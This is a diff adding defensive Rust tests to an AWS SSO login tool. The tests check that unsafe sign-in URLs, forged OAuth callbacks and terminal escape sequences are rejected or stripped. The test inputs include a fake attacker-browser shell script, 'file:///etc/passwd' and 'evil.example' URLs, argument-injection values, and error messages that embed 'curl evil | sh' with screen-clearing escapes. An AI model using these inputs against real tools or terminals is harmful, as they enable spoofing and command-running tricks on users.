@@ -131,7 +131,11 @@ async fn a_repeated_next_token_stops_paging_with_a_clear_error() {
             "{}",
             stderr(&out)
         );
-        assert!(sb.mock.total_requests() <= 3, "{}", sb.mock.total_requests());
+        assert!(
+            sb.mock.total_requests() <= 3,
+            "{}",
+            sb.mock.total_requests()
+        );
     }
 }
 
@@ -205,9 +209,8 @@ async fn an_endless_config_file_fails_fast() {
     no_panic(&out);
     assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
     assert!(
-        stderr(&out).starts_with(
-            "error: cannot read /dev/zero\n  caused by: it is larger than 16 MiB\n"
-        ),
+        stderr(&out)
+            .starts_with("error: cannot read /dev/zero\n  caused by: it is larger than 16 MiB\n"),
         "{}",
         stderr(&out)
     );
@@ -234,5 +237,142 @@ async fn a_ca_bundle_without_a_certificate_is_an_error() {
             "error: cannot set up HTTPS: the CA bundle {} holds no PEM certificate\nhint: check AWS_CA_BUNDLE / ca_bundle\n",
             garbage.display()
         )
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_verification_url_that_is_not_https_never_reaches_the_browser() {
+    for url in [
+        "--help",
+        "-e http://x",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "http://evil.example/device",
+    ] {
+        let sb = Sandbox::new().await;
+        sb.mock
+            .set_device_reply_fields(serde_json::json!({ "verificationUriComplete": url }));
+        let out = sb
+            .cmd()
+            .args(["login", "--profile", "dev", "--device-code"])
+            .env("SSOEXEC_LOGIN_TIMEOUT", "1")
+            .output()
+            .unwrap();
+        no_panic(&out);
+        assert_eq!(sb.browser_opens(), 0, "{url:?} reached the browser");
+        assert!(
+            stderr(&out).contains(
+                "not opening the browser: the sign-in URL is not https (or http to this machine)"
+            ),
+            "{url:?}: {}",
+            stderr(&out)
+        );
+    }
+}
+
+/// A browser script that first sends `bad` requests to the loopback callback (with the port and
+/// state taken from the authorize URL it is given), then completes the real sign-in.
+fn callback_attacker(sb: &Sandbox, bad: &[&str], then_follow: bool) -> String {
+    let path = sb.home().join("bin/attacker-browser");
+    let mut script = String::from(
+        "#!/bin/sh\nport=$(printf '%s' \"$1\" | sed -n 's/.*127\\.0\\.0\\.1%3A\\([0-9]*\\).*/\\1/p')\nstate=$(printf '%s' \"$1\" | sed -n 's/.*[?&]state=\\([^&]*\\).*/\\1/p')\n",
+    );
+    for q in bad {
+        script.push_str(&format!(
+            "curl -s -o /dev/null \"http://127.0.0.1:$port/oauth/callback?{q}\"\n"
+        ));
+    }
+    if then_follow {
+        script.push_str("exec curl -fsSL -o /dev/null \"$1\"\n");
+    }
+    std::fs::write(&path, script).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path.display().to_string()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pkce_callbacks_without_the_right_state_are_ignored() {
+    let sb = Sandbox::new().await;
+    let browser = callback_attacker(
+        &sb,
+        &[
+            "error=access_denied&error_description=%1b%5b2Jrun%20curl%20evil%20%7c%20sh",
+            "error=access_denied&state=wrong",
+            "code=stolen&state=wrong",
+            "code=stolen",
+        ],
+        true,
+    );
+    let out = sb
+        .cmd()
+        .args(["login", "--profile", "dev", "--pkce"])
+        .env("BROWSER", &browser)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!stderr(&out).contains('\x1b'));
+    assert_eq!(sb.mock.count(Op::CreateTokenAuthCode), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_pkce_error_with_the_right_state_ends_the_login_without_control_characters() {
+    let sb = Sandbox::new().await;
+    let browser = callback_attacker(
+        &sb,
+        &["error=access_denied&state=$state&error_description=%1b%5b2JDenied%07%0aby%20admin"],
+        false,
+    );
+    let out = sb
+        .cmd()
+        .args(["login", "--profile", "dev", "--pkce"])
+        .env("BROWSER", &browser)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.ends_with("error: the browser reported a failed sign-in: access_denied: [2JDenied by admin\nhint: run `ssoexec login --profile dev` to try again\n"),
+        "{err:?}"
+    );
+}
+
+/// A portal that refuses GetRoleCredentials with a message full of terminal escapes.
+fn escaping_portal() -> String {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut s) = stream else { continue };
+            let mut buf = [0u8; 4096];
+            let _ = s.read(&mut buf);
+            let body = "{\"message\":\"\\u001b]0;owned\\u0007\\u001b[2JRun: curl evil | sh\",\"__type\":\"ForbiddenException\"}";
+            let _ = write!(
+                s,
+                "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    url
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn server_messages_reach_the_terminal_without_control_characters() {
+    let sb = Sandbox::new().await;
+    sb.login("dev");
+    let out = sb
+        .cmd()
+        .args(["credential-process", "--profile", "dev"])
+        .env("AWS_ENDPOINT_URL_SSO", escaping_portal())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let err = stderr(&out);
+    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
+    assert!(
+        err.starts_with("error: no access to role ReadOnly in account 111111111111 (]0;owned[2JRun: curl evil | sh)\n"),
+        "{err:?}"
     );
 }
